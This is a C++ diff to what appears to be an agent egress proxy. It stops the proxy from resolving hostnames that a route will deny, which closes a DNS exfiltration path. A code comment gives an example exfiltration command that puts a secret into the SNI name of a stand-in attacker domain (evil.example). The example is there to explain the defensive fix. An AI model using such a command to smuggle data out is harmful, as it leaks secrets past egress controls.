@@ -99,6 +99,14 @@ net::awaitable<bool> resolves_to(std::string name, net::ip::address address) {
     co_return false;
 }
 
+// Whether a name sent for a real address must be resolved before `route` is taken. Only a
+// route that goes somewhere needs it: looking up a name the route refuses would send labels
+// the agent chose to the host's resolver, a way out by DNS (`openssl s_client -connect
+// 1.2.3.4:443 -servername <secret>.evil.example`); such a name is refused without a lookup.
+bool resolution_needed(const Route& route) {
+    return route.kind != RouteKind::Deny;
+}
+
 enum class FirstBytes { Tls, Http, Other, Closed };
 
 // Reads until the first bytes say what the connection is: a whole ClientHello (its SNI in
@@ -180,7 +188,10 @@ net::awaitable<void> serve_plain_http(PlainStream& stream, beast::flat_buffer& b
             }
             auto named = problem ? Result<DestinationName>(make_error("transparent.name", *problem))
                                  : destination_name(destination.address(), sent, gateway.synthetic);
-            if (named.ok() && named->check_resolution) {
+            // A name the route refuses anyway is never looked up (see resolution_needed).
+            if (named.ok() && named->check_resolution &&
+                resolution_needed(route_absolute(runtime->config, "http",
+                                                 authority_of(named->name, destination.port())))) {
                 const std::string name = named->name;
                 const net::ip::address address = destination.address();
                 if (!co_await resolves_to(name, address)) {
@@ -295,7 +306,9 @@ net::awaitable<void> run_transparent_connection(tcp::socket socket, Worker& work
                named.error().message);
         co_return;
     }
-    if (named->check_resolution) {
+    if (named->check_resolution &&
+        resolution_needed(route_connect(gateway.runtime.get()->config,
+                                        authority_of(named->name, destination->port())))) {
         const std::string name = named->name;
         const net::ip::address address = destination->address();
         if (!co_await resolves_to(name, address)) {
